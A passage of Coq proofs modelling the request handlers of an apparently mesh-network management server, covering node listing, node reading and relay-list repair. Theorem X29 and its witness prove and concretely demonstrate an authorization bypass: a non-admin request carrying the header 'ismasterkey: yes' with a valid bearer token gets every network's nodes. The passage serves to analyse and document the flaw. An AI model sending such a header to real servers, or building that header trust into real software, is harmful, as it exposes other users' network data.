                  (env X (Base c) w).2)).
Proof.
  intros Hc. unfold mbind, Prog_bind.
  destruct c; try done; cbn [call bind lift with_next run2];
    match goal with
    | |- context [env ?X ?c ?w] => destruct (env X c w) as [? ?]
    end; reflexivity.
Qed.

Lemma run2_unit_bind_ret {W : Type} (env : Env2 W) (p : Prog2 unit) :
  forall w, run2 env (bind2 p (fun _ => Ret2 tt)) w = run2 env p w.
Proof.
  induction p as [[] | msg | X c k IH]; intros w; [done | done |].
  cbn [bind2 run2]. destruct (env X c w) as [x w']. by rewrite IH.
Qed.

Lemma run2_with_next_serve {W : Type} (env : Env2 W)
    (next : Request -> Prog2 unit) (r : Request) (w : W) :
  run2 env (with_next next (lift (call (ServeNext r)))) w = run2 env (next r) w.
Proof. cbn [call lift with_next]. apply run2_unit_bind_ret. Qed.

Lemma Get_HeaderSet_other (k k' v : string) (r : Request) :
  k <> k' -> Get (Header (HeaderSet k v r)) k' = Get (Header r) k'.
Proof.
  intros Hk. unfold Get, HeaderSet. cbn [Header].
  by rewrite lookup_insert_ne.
Qed.

(** X29.  On the route GET /api/nodes the middleware lets every user with a
    valid token through and attaches the user name, and the handler then
    trusts the [ismasterkey] header of the request: for a request that
    carries this header with the value yes, a user who is no admin gets the
    nodes of all networks, and the user's own networks are not looked at. *)
Theorem all_nodes_route_trusts_master_header {W : Type} (env : Env2 W)
    (r : Request) (tok u : string) (nets : list string) (nodes : list Node)
    (w : W) :
  carries r tok ->
  plain_user (base_env env) tok u nets ->
  Get (Header r) "ismasterkey" = "yes" ->
  (forall w', (env _ (Base GetAllNodes) w').1 = (nodes, None)) ->
  let h := authorized false false "user" (fun r => lift (getAllNodes r)) in
  In ("GET", "/api/nodes", h) nodeHandlers /\
  let tr := base_events (trace2 (run2 env (h r) w)) in
  result2 (run2 env (h r) w) = Some tt /\
  served tr = [] /\ error_responses tr = [] /\
  all_nodes_listings tr = [tt] /\ network_lookups tr = [] /\
  encoded tr = [BodyNodes nodes].
Proof.
  intros Hc Hu Hmk Hall. cbv zeta. split; [by left |].
  destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold plain_user, base_env in Hu.
  unfold authorized, authorize. cbv zeta.
  rewrite run2_with_next_call by exact I.
  destruct (env _ (Base (NetworkExists _)) w) as [[ex e0] w0]. tidy2.
  rewrite run2_with_next_call by exact I.
  destruct (env _ (Base (SetResponseHeader _ _)) w0) as [[] w1]. tidy2.
  rewrite Hlen, Hnth. unfold authorize_user. cbv zeta.
  rewrite run2_with_next_call by exact I. rewrite !Hu.
  generalize ((env _ (Base (VerifyUserToken tok)) w1).2). intros w2. tidy2.
  cbn [String.eqb Ascii.eqb Bool.eqb]. unfold authorize_verdict. cbn [negb].
  rewrite run2_with_next_serve, run2_lift. cbv zeta.
  set (r' := HeaderSet "user" (if String.eqb u "" then "(user not found)" else u) r).
  assert (Hmk' : Get (Header r') "ismasterkey" = "yes").
  { unfold r'. by rewrite Get_HeaderSet_other. }
  unfold getAllNodes. rewrite Hmk'.
  cbn [String.eqb Ascii.eqb Bool.eqb negb]. next.
  next. destruct p as [user uerr]. rewrite andb_false_r, orb_true_r.
  assert (Hall' : forall w', (base_env env _ GetAllNodes w').1 = (nodes, None))
    by exact Hall.
  answer Hall'. next. next. compute_traces2. done.
Qed.

Lemma all_nodes_route_trusts_master_header_witness :
  let r := mkRequest (<[ "ismasterkey" := "yes" ]>
                        {[ "Authorization" := "Bearer bobtoken" ]}) ∅ in
  let h := authorized false false "user" (fun r => lift (getAllNodes r)) in
  let tr := base_events (trace2 (run2 env_route_all_nodes (h r) tt)) in
  IsAdmin bob = false /\ error_responses tr = [] /\
  encoded tr = [BodyNodes all_nodes].
Proof.
  cbv zeta.
  pose proof (all_nodes_route_trusts_master_header env_route_all_nodes
                (mkRequest (<[ "ismasterkey" := "yes" ]>
                              {[ "Authorization" := "Bearer bobtoken" ]}) ∅)
                "bobtoken" "bob" [] all_nodes tt
                eq_refl (fun _ => eq_refl) eq_refl (fun _ => eq_refl))
    as (_ & _ & _ & He & _ & _ & Hb).
  split; [reflexivity |]. split; [exact He | exact Hb].
Defined.

(** ** Reading one node *)

(** X30.  The handler that reads one node tolerates the empty-record
    failure of the peer computation: the node is written, with status 200
    and with the peers and the server information as they were answered,
    and no error is written.  Any other failure of the peer computation is
    written as an internal error, and no body is written. *)
Theorem getNode_empty_record_tolerated {W : Type} (env : Env W) (r : Request)
    (node : Node) (peers : PeerUpdate) (msg info : string) (empty : bool)
    (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall w', (env _ (GetPeerUpdate node) w').1 = (peers, Some msg)) ->
  (forall w', (env _ (IsEmptyRecord (Some msg)) w').1 = empty) ->
  (forall w', (env _ GetServerInfo w').1 = info) ->
  let o := run env (getNode r) w in
  result o = Some tt /\
  if empty
  then error_responses (trace o) = [] /\ status_codes (trace o) = [StatusOK] /\
       encoded (trace o) = [BodyNodeGet (mkNodeGet node (Peers peers) info)]
  else error_responses (trace o) = [formatError (Some msg) "internal"] /\
       status_codes (trace o) = [] /\ encoded (trace o) = [].
Proof.
  intros Hn Hp He Hi. unfold getNode. cbv zeta.
  next. answer Hn. answer Hp. rewrite run_bind. answer He.
  destruct empty; tidy_goal.
  - answer Hi. next. next. compute_traces. done.
  - next. compute_traces. done.
Qed.

Lemma getNode_empty_record_tolerated_witness :
  let o := run env_empty_record
               (getNode (node_request "secretkey" "net1" "node-1")) tt in
  result o = Some tt /\
  error_responses (trace o) = [] /\ status_codes (trace o) = [StatusOK] /\
  encoded (trace o) = [BodyNodeGet (mkNodeGet stored_node [] "server-info")].
Proof.
  exact (getNode_empty_record_tolerated env_empty_record
           (node_request "secretkey" "net1" "node-1") stored_node
           (mkPeerUpdate []) "no result found" "server-info" true tt
           (fun _ => eq_refl) (fun _ => eq_refl) (fun _ => eq_refl)
           (fun _ => eq_refl)).
Defined.

(** ** The relay repair at a concrete relay *)

Lemma updateRelay_run_witness :
  let oldnode := relayed_node "10.0.0.5" "" in
  let newnode := relayed_node "10.0.0.9" "" in
  let relay := relay_node ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"] in
  let o := run (env_patch oldnode newnode (Some (relay, 2)) [])
               (updateRelay oldnode newnode) tt in
  result o = Some tt /\
  updated (trace o)
    = [(relay_node ["10.0.0.4"; "10.0.0.6"; "10.0.0.9"],
        relay_node ["10.0.0.4"; "10.0.0.6"; "10.0.0.9"])].
Proof.
  exact (updateRelay_run
           (env_patch (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
              (Some (relay_node ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"], 2)) [])
           (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
           (relay_node ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"]) 2 tt
           (fun _ => eq_refl)).
Defined.

Lemma repair_list_idempotent_NoDup_witness :
  let oldnode := relayed_node "10.0.0.5" "" in
  let newnode := relayed_node "10.0.0.9" "fd00::9" in
  let l := ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"] in
  repair_list oldnode newnode (repair_list oldnode newnode l)
  = repair_list oldnode newnode l.
Proof.
  apply (repair_list_idempotent_NoDup (relayed_node "10.0.0.5" "")
           (relayed_node "10.0.0.9" "fd00::9")
           ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"]).
  apply (bool_decide_unpack _). vm_compute. exact I.
Defined.

Lemma repair_list_ipv4_change_witness :
  let oldnode := relayed_node "10.0.0.5" "" in
  let newnode := relayed_node "10.0.0.9" "" in
  let l := ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"] in
  let l' := repair_list oldnode newnode l in
  NoDup l' /\ ("10.0.0.9" ∈ l') /\ ("10.0.0.5" ∉ l') /\ length l' = 3.
Proof.
  apply (repair_list_ipv4_change (relayed_node "10.0.0.5" "")
           (relayed_node "10.0.0.9" "")
           ["10.0.0.4"; "10.0.0.5"; "10.0.0.6"]).
  - discriminate.
  - reflexivity.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
Defined.
